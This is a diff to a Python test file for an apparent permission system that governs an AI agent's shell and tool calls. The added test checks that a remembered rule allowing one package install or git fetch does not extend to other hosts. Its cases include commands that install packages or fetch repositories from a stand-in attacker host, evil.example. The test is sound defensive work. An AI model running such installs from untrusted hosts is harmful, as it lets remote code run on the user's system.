@@ -74,6 +74,32 @@ def test_F11_the_rule_covers_the_like_and_says_so():
         assert under(rule, shell(script)).decision is not ALLOW, script
 
 
+@pytest.mark.parametrize(
+    ("asked", "like", "others"),
+    [
+        (
+            tool("pip", "install", "requests"),
+            tool("pip", "install", "requests", "urllib3"),
+            [
+                tool("pip", "install", "requests", "git+https://evil.example/x"),
+                tool("pip", "install", "requests", "https://evil.example/x.whl"),
+            ],
+        ),
+        (
+            tool("git", "fetch", "https://code.example/a.git"),
+            tool("git", "fetch", "https://code.example/b.git"),
+            [tool("git", "fetch", "https://evil.example/a.git"), tool("git", "fetch", "e@f.gh:i")],
+        ),
+    ],
+)
+def test_a_remembered_rule_opens_no_host_that_was_not_on_the_card(asked, like, others):
+    rule = WORLD.decide(asked).offers[-1]
+    assert under(rule, like).decision is ALLOW
+    assert [under(rule, one).decision for one in others] == [ASK] * len(others)
+    assert Remembered.parse(rule.as_data()) == rule
+    assert all(host in rule.text() for host in rule.hosts)
+
+
 @pytest.mark.parametrize("action", [PYTEST, tool("git", "branch", "topic")])
 def test_every_example_is_what_it_says(action):
     for rule in WORLD.decide(action).offers:
